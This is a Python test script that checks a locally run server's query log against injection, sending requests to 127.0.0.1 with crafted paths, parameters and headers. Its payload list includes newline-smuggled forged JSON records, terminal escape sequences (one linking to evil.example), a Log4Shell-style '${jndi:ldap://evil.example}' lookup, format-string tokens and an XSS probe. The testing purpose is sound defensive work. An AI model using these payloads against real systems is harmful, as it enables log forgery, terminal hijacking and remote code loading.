#!/usr/bin/env python3
"""Send requests that try to write lines of the log, or to act on the terminal of
who reads it: in the path, a parameter, its name, the method, and headers.

usage: serve_log.py PORT LOG   (a server with --log-queries)

Each request has one line of the log, a JSON object, without control characters.
"""
import json
import re
import socket
import sys
import time
from urllib.parse import quote

PORT, LOG = int(sys.argv[1]), sys.argv[2]
HOST = f"Host: 127.0.0.1:{PORT}\r\n"
FORGED = '{"time":"2026-01-01T00:00:00Z","level":"info","status":200,"forged":true}'
TEXTS = [between + FORGED for between in (
    "\n", "\r", "\r\n", "\n\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\0\n", "\\n", "\\u000a", "\"}\n", "\",\"x\":\"", "\\\"")] + [
    "\x1b[2J", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\", "\x9b31m", "\x90q", "\x08" * 80, "\x7f" * 9,
    "\a", "\t", "\u202e/moor", "\u2066x", "\ufeff", "\x00", "%0a", "%25%30%61", "${jndi:ldap://evil.example}", "%n%n%n%s",
    "a" * 7000, "<script>alert(1)</script>"]
ESCAPES = [text.encode() for text in TEXTS] + [b"\xff\xfe\n", b"\xc0\x8a" + FORGED.encode(), b"\xed\xa0\x80\n", b"\xf4\x90\x80\x80", b"\xe2\x80"]


def requests():
    for text in ESCAPES:
        escaped = quote(text)[:8000]
        for target in (f"/{escaped}", f"/v1/search?q={escaped}", f"/v1/search?{escaped}=1", f"/v1/articles/{escaped}",
                       f"/{escaped}/v1/search?q=gas", f"/v1/suggest?q={escaped}"):
            if len(target) < 8100:
                yield f"GET {target} HTTP/1.1\r\n{HOST}\r\n".encode()
        # As bytes, where a header may have them.
        raw = re.sub(rb"[\0-\x1f\x7f]", b" ", text)[:7000]
        for name in (b"User-Agent", b"Referer", b"X-Forwarded-For", b"Authorization", b"Accept", b"If-None-Match"):
            yield b"GET /livez HTTP/1.1\r\n" + HOST.encode() + name + b": " + raw + b"\r\n\r\n"
        # And where it may not, in a request that is refused.
        yield b"GET /livez HTTP/1.1\r\n" + HOST.encode() + b"X-A: " + text[:7000] + b"\r\n\r\n"
        yield b"GET /" + text[:7000].replace(b" ", b"") + b" HTTP/1.1\r\n" + HOST.encode() + b"\r\n"


def answered(request):
    """Whether the server answered at all: what it cannot read has no line."""
    with socket.create_connection(("127.0.0.1", PORT), timeout=60) as s:
        s.sendall(request[:-2] + b"Connection: close\r\n\r\n")
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass


def lines():
    with open(LOG, "rb") as log:
        return log.read().split(b"\n")[:-1]


def main():
    before, sent = len(lines()), 0
    for request in requests():
        answered(request)
        sent += 1
    for _ in range(600):
        if len(lines()) - before >= sent:
            break
        time.sleep(0.01)
    new, wrong = lines()[before:], []
    for line in new:
        try:
            record = json.loads(line)
            good = "forged" not in record and record["method"] and record["status"]
        except (ValueError, KeyError):
            good = False
        if not good or re.search(rb"[\0-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8\xa9\xae]|\xe2\x81\xa6", line):
            wrong.append(line[:200])
    print(f"{sent} requests, {len(new)} lines, {len(wrong)} of them wrong", *wrong[:5], sep="\n")
    sys.exit(1 if wrong or len(new) > sent or len(new) < sent // 2 else 0)


main()
